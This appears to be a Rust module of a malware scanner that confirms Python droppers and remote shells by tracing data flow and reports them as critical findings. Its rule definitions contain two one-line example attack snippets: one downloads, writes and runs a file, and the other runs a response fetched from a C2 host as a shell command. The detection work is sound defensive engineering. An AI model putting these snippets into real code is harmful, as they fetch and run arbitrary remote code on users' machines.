//! Confirming a dropper by its data flow: a Python scope (function or module body) that
//! downloads, writes and runs is a dropper when what runs is what it downloaded (see
//! `pyflow`). A confirmed scope is reported, and its function is tagged `runs-download`
//! so that the function-level correlations can tell it from an updater that fetches one
//! thing and starts another.

use crate::pyblocks::LineInfo;
use crate::pyflow::{self, DownloadRun, Ran};
use crate::source::Role;
use palisade_core::{Category, Finding, RuleInfo, Severity};
use std::collections::{BTreeMap, BTreeSet};

pub static RUNS_DOWNLOAD: RuleInfo = RuleInfo {
    id: "download/runs-what-it-downloaded",
    category: Category::Download,
    severity: Severity::Critical,
    summary: "Python code downloads a file, writes it to disk and starts that same file as a program (or hands it to an interpreter).",
    why: "Fetch, write and run of the same bytes is a dropper: what runs is whatever the server sends, never what was reviewed. Honest installers that download something unpack or verify it; they rarely start it from the function that fetched it.",
    example: "r = requests.get(url); open(p, 'wb').write(r.content); subprocess.run([p])",
    attack: Some("T1105"),
};

pub static RUNS_RECEIVED_COMMAND: RuleInfo = RuleInfo {
    id: "execution/runs-received-command",
    category: Category::Execution,
    severity: Severity::Critical,
    summary: "Python code runs, as a command line, text it received from the network.",
    why: "A response run as a shell command is a remote shell: whoever controls the server decides what runs on the machine, whenever they like. Honest tools put fetched values (a version number) into commands they write themselves; they do not run the response.",
    example: "resp = requests.get(C2).text; subprocess.run(resp, shell=True)",
    attack: Some("T1059"),
};

/// Follows every scope that fetches, in a file that starts programs (or sets them to
/// start), tags the functions that run what they downloaded, and returns the first
/// place that runs a download.
pub(super) fn confirm(
    data: &[u8],
    lines: &[LineInfo],
    functions: &mut BTreeMap<u32, BTreeSet<String>>,
    module_body: &BTreeSet<String>,
) -> Option<DownloadRun> {
    // A scope that fetches may run what it got through another function of the file
    // (`runcommand(resp)`), so any process start in the file makes it worth following.
    let starts = |tags: &BTreeSet<String>| tags.contains("process") || tags.contains("persistence");
    let file_starts = starts(module_body) || functions.values().any(starts);
    let dropper_shape = |tags: &BTreeSet<String>| tags.contains("network") && file_starts;
    let scopes: Vec<Option<u32>> = functions
        .iter()
        .filter(|(_, tags)| dropper_shape(tags))
        .map(|(&f, _)| Some(f))
        .chain(dropper_shape(module_body).then_some(None))
        .collect();
    if scopes.is_empty() {
        return None;
    }
    let facts = pyflow::file_facts(data, lines);
    let mut first: Option<DownloadRun> = None;
    for scope in scopes {
        let Some(found) = pyflow::runs_what_it_downloaded(data, lines, scope, &facts) else {
            continue;
        };
        if let (Ran::File { .. }, Some(tags)) =
            (&found.ran, scope.and_then(|f| functions.get_mut(&f)))
        {
            tags.insert("runs-download".to_string());
        }
        first.get_or_insert(found);
    }
    first
}

/// The finding for a confirmed dropper or remote shell, naming the lines that make it one.
pub(super) fn finding(found: &DownloadRun, role: Role) -> Finding {
    match &found.ran {
        Ran::File { path, written_line } => RUNS_DOWNLOAD.finding(format!(
            "downloaded at line {}, written to `{path}` at line {written_line}, started at line {} [{}]",
            found.fetched_line,
            found.run_line,
            role.name()
        )),
        Ran::Command => RUNS_RECEIVED_COMMAND.finding(format!(
            "received from the network at line {}, run as a command at line {} [{}]",
            found.fetched_line,
            found.run_line,
            role.name()
        )),
    }
}
